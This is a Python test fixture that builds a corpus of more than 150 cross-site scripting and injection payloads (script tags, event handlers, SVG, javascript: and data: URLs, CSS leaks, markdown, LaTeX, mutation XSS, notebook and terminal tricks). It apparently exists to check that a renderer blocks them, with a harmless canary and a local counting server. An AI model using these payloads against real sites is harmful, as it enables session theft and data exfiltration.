"""More than 150 hostile answers. Whoever runs one sets a canary in the page or asks the counting server: both are
looked at.

`CANARY` stands for a statement that sets `window.__loom_canary` and calls `alert`; `BEACON` for an address of the
counting server (`http://127.0.0.1:port/b`). `answers(beacon)` fills both in; answer n asks for `BEACON/n`.
"""

from __future__ import annotations

import base64
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

RUN: Final = "(window.top||window).__loom_canary=1;window.__loom_canary=1;alert(1)"
"""What a hostile text that is run does; a test's page counts it."""

_B64: Final = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

GROUPS: Final[dict[str, Sequence[str]]] = {
    "script": (
        "<script>CANARY</script>",
        "<SCRIPT>CANARY</SCRIPT>",
        "<script src=BEACON></script>",
        "<script type=module>import 'BEACON';CANARY</script>",
        "<script\x20type='text/javascript'>CANARY</script>",
        "<script\n>CANARY</script\n>",
        "<script/x>CANARY</script>",
        "<scr<script>ipt>CANARY</scr</script>ipt>",
        "</script><script>CANARY</script>",
        "</textarea></title></style></noscript></template><script>CANARY</script>",
        "--></script><script>CANARY</script><!--",
        "<script>fetch('BEACON')</script>",
        "<script>new Image().src='BEACON'</script>",
        "<script>navigator.sendBeacon('BEACON')</script>",
        "<script>new WebSocket('BEACON'.replace('http','ws'))</script>",
        "'\"--></style></script><script>CANARY</script>",
        "<script type='application/javascript;version=1.8'>CANARY</script>",
        "<script>document.write('<img src=BEACON>')</script>",
    ),
    "handler": (
        "<img src=x onerror=CANARY>",
        "<img src=x onerror='CANARY'>",
        "<img src=x\tonerror\n=\nCANARY>",
        "<img/src=x/onerror=CANARY>",
        '"><img src=x onerror=CANARY>',
        "'><img src=x onerror=CANARY>",
        '" onmouseover="CANARY" style="position:fixed;inset:0" x="',
        "' autofocus onfocus='CANARY' x='",
        "<body onload=CANARY>",
        "<input autofocus onfocus=CANARY>",
        "<details open ontoggle=CANARY><summary>x</summary></details>",
        "<video><source onerror=CANARY></video>",
        "<video autoplay onloadstart=CANARY src=BEACON></video>",
        "<audio src=BEACON onerror=CANARY></audio>",
        "<marquee onstart=CANARY>x</marquee>",
        "<select autofocus onfocus=CANARY><option>x</select>",
        "<textarea autofocus onfocus=CANARY>x</textarea>",
        "<div onpointerrawupdate=CANARY onpointerenter=CANARY style='position:fixed;inset:0'>x</div>",
        "<style onload=CANARY></style>",
        "<div style='animation:x 1s' onanimationstart=CANARY>x</div><style>@keyframes x{}</style>",
        "<button popovertarget=p onclick=CANARY>x</button><div popover id=p onbeforetoggle=CANARY>x</div>",
        "<x contenteditable autofocus tabindex=0 onfocus=CANARY>x</x>",
        "<img src=x ONERROR=CANARY ONLOAD=CANARY>",
        "<img src=`x` onerror=`CANARY`>",
        "<input type=image src=BEACON onerror=CANARY>",
        "<a tabindex=0 autofocus onfocus=CANARY href=#>x</a>",
    ),
    "svg": (
        "<svg onload=CANARY>",
        "<svg><script>CANARY</script></svg>",
        "<svg><script href='BEACON'/></svg>",
        "<svg><script xlink:href='data:text/javascript,CANARY'/></svg>",
        "<svg><animate onbegin=CANARY attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=CANARY><animate onend=CANARY dur=1ms attributeName=x></svg>",
        "<svg><a xlink:href='javascript:CANARY'><text x=20 y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml;base64,B64#x'/></svg>",
        "<svg><image href='BEACON'/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>CANARY</script>'></iframe></foreignObject></svg>",
        "<svg><style>@import 'BEACON';</style></svg>",
        "<svg><feImage href='BEACON'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='CANARY'/>",
        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>CANARY</script></svg>",
    ),
    "address": (
        "<a href='javascript:CANARY' autofocus>x</a>",
        "<a href='jav&#x09;ascript:CANARY'>x</a>",
        "<a href='java\nscript:CANARY'>x</a>",
        "<a href='&#106;avascript:CANARY'>x</a>",
        "<a href='\x01javascript:CANARY'>x</a>",
        "javascript:CANARY",
        "JaVaScRiPt://%0aCANARY",
        "data:text/html;base64,B64",
        "data:text/html,<script>CANARY</script>",
        "<iframe src='javascript:CANARY'></iframe>",
        "<iframe src='data:text/html;base64,B64'></iframe>",
        "<iframe srcdoc='<script>CANARY</script>'></iframe>",
        "<iframe src=BEACON></iframe>",
        "<object data='data:text/html;base64,B64'></object>",
        "<object data=BEACON></object>",
        "<embed src='javascript:CANARY'>",
        "<embed src=BEACON>",
        "<form action='javascript:CANARY'><button autofocus>x</button></form>",
        "<form><button formaction='javascript:CANARY'>x</button></form>",
        "<meta http-equiv=refresh content='0;url=javascript:CANARY'>",
        "<meta http-equiv=refresh content='0;url=BEACON'>",
        "<base href='BEACON/'>",
        "<link rel=stylesheet href=BEACON>",
        "<link rel=prefetch href=BEACON><link rel=preload as=image href=BEACON>",
        "<link rel=import href=BEACON>",
        "<img src=BEACON>",
        "<img srcset='BEACON 1x, BEACON 2x'>",
        "<picture><source srcset=BEACON><img></picture>",
        "<img src='//evil.example/pixel.gif'>",
        "<video poster=BEACON></video>",
        "<track src=BEACON><video><track default src=BEACON></video>",
        "<a ping=BEACON href=#>x</a>",
        "<table background=BEACON><tr><td background=BEACON>x</table>",
        "<portal src=BEACON></portal><frameset><frame src=BEACON></frameset>",
        "blob:CANARY",
        "vbscript:CANARY",
    ),
    "css": (
        "<style>@import url(BEACON);</style>",
        "<style>body{background:url(BEACON)}</style>",
        "<style>*{display:none!important}</style>",
        "<style>@font-face{font-family:x;src:url(BEACON)}*{font-family:x}</style>",
        "<div style='background:url(BEACON)'>x</div>",
        "<div style='background:\\75\\72\\6c(BEACON)'>x</div>",
        "<div style=\"background-image:image-set('BEACON' 1x)\">x</div>",
        "<div style='width:expression(CANARY)'>x</div>",
        "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>everything is fine</div>",
        "<div style='list-style:url(BEACON);cursor:url(BEACON),auto'>x</div>",
        "<style>input[value^=a]{background:url(BEACON)}</style>",
        "</style><script>CANARY</script>",
        "red;background:url(BEACON)",
        "<p class='jp-mod-hidden' style='content:url(BEACON)'>x</p>",
    ),
    "markdown": (
        "![x](BEACON)",
        "[x](javascript:CANARY)",
        "![x](javascript:CANARY)",
        "<javascript:CANARY>",
        "[x]: javascript:CANARY\n[x]",
        "[x](data:text/html;base64,B64)",
        '![x](x "onerror=CANARY")',
        '![x](x" onerror="CANARY)',
        "```html\n<script>CANARY</script>\n```\n<script>CANARY</script>",
        '```mermaid\ngraph TD; A[<img src=x onerror=CANARY>]; click A "javascript:CANARY"\n```',
        "# x <img src=x onerror=CANARY>\n\n| a | b |\n|---|---|\n| <script>CANARY</script> | ![](BEACON) |",
        "[x](BEACON 'x')<br><img src=BEACON>",
    ),
    "latex": (
        "$\\href{javascript:CANARY}{x}$",
        "$$\\href{javascript:CANARY}{\\text{click}}$$",
        "\\(\\unicode{<img src=x onerror=CANARY>}\\)",
        "$\\text{</script><img src=x onerror=CANARY>}$",
        "$\\style{background:url(BEACON);position:fixed;inset:0}{x}$",
        "$\\require{html}\\href{javascript:CANARY}{x}\\cssId{x}{y}\\class{jp-mod-hidden}{z}$",
        "$\\includegraphics{BEACON}$",
        "\\[\\def\\x{\\x\\x}\\x\\]",
        "$\\data{x}{y}\\html{<script>CANARY</script>}$",
        "\\begin{equation}\\href{data:text/html;base64,B64}{x}\\end{equation}",
    ),
    "mxss": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CANARY&gt;'>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=CANARY>",
        "<svg></p><style><a id='</style><img src=1 onerror=CANARY>'>",
        "<noscript><p title='</noscript><img src=x onerror=CANARY>'>",
        "<!--><img src=x onerror=CANARY>-->",
        "<![CDATA[><img src=x onerror=CANARY>]]>",
        "<template><script>CANARY</script></template>",
        "<div><template shadowrootmode=open><img src=x onerror=CANARY></template></div>",
        "<xmp><p title='</xmp><img src=x onerror=CANARY>'>",
        "<title><style><!--</style><img src=x onerror=CANARY></title>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CANARY src>'>",
        "<a id=x><a id=x name=y href='javascript:CANARY'><form id=body><input name=nodeName>",
        "<img name=getElementById><form name=querySelector><input name=cookie>",
    ),
    "notebook": (
        '{"application/javascript": "CANARY"}',
        '{"text/html": "<script>CANARY</script>", "application/vnd.jupyter.widget-view+json": {"model_id": "CANARY"}}',
        '{"metadata": {"trusted": true, "widgets": {"state": {"_esm": "CANARY"}}}}',
        "</script><script type='application/vnd.jupyter.widget-state+json'>{}</script><script>CANARY</script>",
        "%%javascript\nCANARY",
        "__proto__",
        "constructor",
        '{"__proto__": {"class": "x", "onerror": "CANARY"}}',
    ),
    "terminal": (
        "\x1b[31m<img src=x onerror=CANARY>\x1b[0m",
        "\x1b]8;;javascript:CANARY\x07link\x1b]8;;\x07",
        "\x1b[2J\x1b[1;1H\x1b]0;<script>CANARY</script>\x07",
        "\r<script>CANARY</script>\r\n\x08\x08\x08<img src=x onerror=CANARY>",
    ),
    "characters": (
        "\u202e<script>CANARY</script>\u202c \u2066tpircs\u2069",
        "<scr\x00ipt>CANARY</scr\x00ipt>",
        "\x00<img src=x onerror=CANARY>",
        "\u00bcscript\u00beCANARY\u00bc/script\u00be",
        "\uff1cscript\uff1eCANARY\uff1c/script\uff1e",
        "&lt;script&gt;CANARY&lt;/script&gt;&#60;img src=x onerror=CANARY&#62;",
        "+ADw-script+AD4-CANARY+ADw-/script+AD4-",
        "<\u200bscript>CANARY</script> <img\u2028src=x\u2028onerror=CANARY>",
        "%3Cscript%3ECANARY%3C/script%3E\\u003cscript\\u003eCANARY\\u003c/script\\u003e",
    ),
}


@dataclass(frozen=True, slots=True)
class Hostile:
    """One answer: its place in the corpus, the trick it is of, and the text."""

    number: int
    group: str
    text: str


def answers(beacon: str = "http://127.0.0.1:9/b", run: str = RUN) -> list[Hostile]:
    """The corpus; each text's canary is `run`, and it asks for `beacon/number` if it asks for anything."""
    found: list[Hostile] = []
    for group, texts in GROUPS.items():
        for text in texts:
            number = len(found)
            filled = text.replace("CANARY", run).replace("BEACON", f"{beacon}/{number}").replace("B64", _B64)
            found.append(Hostile(number, group, filled))
    return found
